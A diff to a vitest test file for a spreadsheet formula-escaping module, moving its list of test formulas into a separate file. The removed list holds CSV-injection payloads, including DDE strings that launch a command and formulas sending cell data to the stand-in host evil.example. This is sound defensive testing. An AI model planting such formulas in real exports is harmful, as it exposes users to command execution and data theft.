@@ -1,38 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { fromCell, isFormula, toCell } from './formulas.ts';
+import { formulas } from './test-formulas.ts';
 
-const formulas = [
-	'=1+1',
-	"=cmd|' /C calc'!A0",
-	'=HYPERLINK("https://evil.example","x")',
-	'=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
-	'=WEBSERVICE("https://evil.example")',
-	'+1+1',
-	"+cmd|' /C calc'!A0",
-	'-1+1',
-	"-2+3+cmd|' /C calc'!A0",
-	'-',
-	'@SUM(1+1)',
-	'@A1',
-	'\t=1+1',
-	'\tx',
-	'\r=1+1',
-	'\rx',
-	'\n=1+1',
-	'\r\n=1+1',
-	' =1+1',
-	'   +1+1',
-	'\u00a0=1+1',
-	'\u200b=1+1',
-	'\u202e=1+1',
-	'\ufeff=1+1',
-	'\u00ad-1',
-	'\u3000@x',
-	'＝1+1',
-	'＋1',
-	'－1',
-	'＠SUM(1)'
-];
 const texts = [
 	'',
 	'They object.',
